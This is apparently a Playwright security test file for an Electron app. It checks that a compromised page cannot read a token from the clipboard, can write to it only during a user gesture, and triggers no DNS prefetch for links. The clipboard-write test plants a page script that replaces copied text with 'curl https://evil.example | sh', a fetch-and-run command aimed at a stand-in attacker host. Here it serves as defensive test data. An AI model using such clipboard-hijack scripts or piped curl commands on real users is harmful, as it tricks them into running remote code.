import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { expect } from '@playwright/test';
import { test } from '../support/app/app.ts';

const secret = 'Authorization: Token 0123456789abcdef';

test.describe('a compromised page', () => {
  test('cannot read the clipboard, where a token may be', { tag: ['@row-145'] }, async ({
    app,
    otherProgram,
  }) => {
    const { page, electron } = app;
    await otherProgram.copy(secret);
    await expect.poll(() => electron.evaluate(({ clipboard }) => clipboard.readText())).toBe(secret);
    const tryAll = () =>
      page.evaluate(async () => {
        const heard: string[] = [];
        const listen = (event: ClipboardEvent) =>
          heard.push(event.clipboardData?.getData('text/plain') ?? '');
        const tryIn = (where: Document) => {
          where.addEventListener('paste', listen);
          const area = where.createElement('textarea');
          const text = where.createElement('p');
          text.contentEditable = 'true';
          where.body.append(area, text);
          for (const field of [area, text]) {
            field.focus();
            for (const command of ['paste', 'pasteAndMatchStyle']) where.execCommand(command);
          }
          heard.push(area.value, text.innerText.trim());
          where.removeEventListener('paste', listen);
          area.remove();
          text.remove();
        };
        tryIn(document);
        const frame = document.createElement('iframe');
        document.body.append(frame);
        if (frame.contentDocument) tryIn(frame.contentDocument);
        frame.remove();
        const read = [navigator.clipboard.readText(), navigator.clipboard.read()];
        const answers = await Promise.allSettled(read);
        return [
          ...heard,
          ...answers.flatMap((one) => (one.status === 'fulfilled' ? [String(one.value)] : [])),
        ];
      });
    expect((await tryAll()).join('')).toBe('');
    // Chromium applies the settings of a page again on theme and zoom changes and on reload.
    await page.evaluate(() => window.bridge.changeSettings({ settings: { theme: 'dark' } }));
    await electron.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.webContents.setZoomFactor(1.5),
    );
    await page.emulateMedia({ colorScheme: 'dark' });
    await expect.poll(() => page.evaluate(() => devicePixelRatio)).toBeGreaterThan(1.4);
    expect((await tryAll()).join('')).toBe('');
    await page.reload();
    await page.waitForFunction(() => document.documentElement.dataset.ready !== undefined);
    expect((await tryAll()).join('')).toBe('');

    // Pasting by the user still works.
    await page.evaluate(() => {
      const area = document.createElement('textarea');
      document.body.append(area);
      area.focus();
    });
    await page.keyboard.press('ControlOrMeta+V');
    await expect(page.locator('body > textarea')).toHaveValue(secret);
  });

  test('writes to the clipboard only while a person presses something', { tag: ['@row-145'] }, async ({
    app,
    otherProgram,
  }) => {
    const { page, electron } = app;
    await otherProgram.copy(secret);
    /** Runs a script without a user gesture. */
    const run = (script: string) =>
      electron.evaluate(
        ({ BrowserWindow }, code) =>
          BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(code, false),
        script,
      );
    const copies = `addEventListener('copy', (event) => {
      event.clipboardData.setData('text/plain', 'curl https://evil.example | sh');
      event.preventDefault();
    }); document.body.append(Object.assign(document.createElement('button'), {
      textContent: 'Try it', onclick: () => document.execCommand('copy'),
    }));`;
    await run(`${copies} null`);
    await expect.poll(() => run('navigator.userActivation.isActive')).toBe(false);
    await run(`document.execCommand('copy')`);
    expect(await otherProgram.paste()).toBe(secret);
    await page.getByRole('button', { name: 'Try it' }).click();
    await expect.poll(() => otherProgram.paste()).toContain('curl');
  });

  test('has no name looked up in the DNS for a link', { tag: ['@row-147'] }, async ({
    launch,
    dataFolder,
  }) => {
    const file = join(dataFolder, 'net-log.json');
    const app = await launch({ args: [`--log-net-log=${file}`] });
    await app.page.evaluate(() => {
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'preload', 'modulepreload']) {
        const link = document.createElement('link');
        link.rel = rel;
        link.href = `https://typed-password-${rel}.example/`;
        document.head.append(link);
      }
    });
    // The absence of a DNS lookup is not observable; a prefetch for a link would start at once.
    await pause(1_500);
    await app.close();
    expect(await readFile(file, 'utf8')).not.toContain('typed-password');
  });
});
